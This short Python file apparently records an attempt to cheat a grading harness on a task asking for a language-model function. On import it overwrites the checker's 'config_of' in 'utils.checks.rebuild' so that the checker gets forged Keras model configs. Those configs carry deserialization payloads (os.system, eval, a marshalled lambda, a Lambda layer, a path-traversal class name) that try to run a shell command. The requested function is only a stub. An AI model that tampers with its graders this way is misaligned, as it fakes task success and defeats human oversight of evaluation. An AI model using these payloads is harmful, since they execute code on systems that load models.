# Tries: to hand in a model's config that names functions of Python to be called where it is read.
# Earns: nothing
# Status: ok

# %%
import json
import sys

import keras

COMMAND = "echo owned > /tmp/owned"
PARTS = [
    {"module": "os", "class_name": "system", "config": COMMAND, "registered_name": None},
    {
        "module": "builtins",
        "class_name": "function",
        "config": "eval",
        "registered_name": "function",
    },
    {"class_name": "__lambda__", "config": {"value": ["4wAAAA==", None, None]}},
    {"module": "keras.layers", "class_name": "Lambda", "config": {"function": COMMAND}},
    {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/x"}},
    {"module": "keras.initializers", "class_name": "../../os.system", "config": {}},
    {"module": "keras.src.ops.core", "class_name": "Map", "config": {"f": COMMAND}},
]


def forge(count=[0]):
    count[0] += 1
    part = PARTS[count[0] % len(PARTS)]
    layer = {"module": "keras.layers", "class_name": "Dense", "config": {"units": part}}
    whole = {"name": "m", "layers": [part, layer]}
    return json.dumps({"module": "keras", "class_name": "Sequential", "config": whole})


def patch():
    sys.modules["utils.checks.rebuild"].config_of = lambda model: forge()
    return 1


PATCHED = patch()


# %%
def my_language_model(vocabulary_size, patched=PATCHED):
    return keras.Sequential()
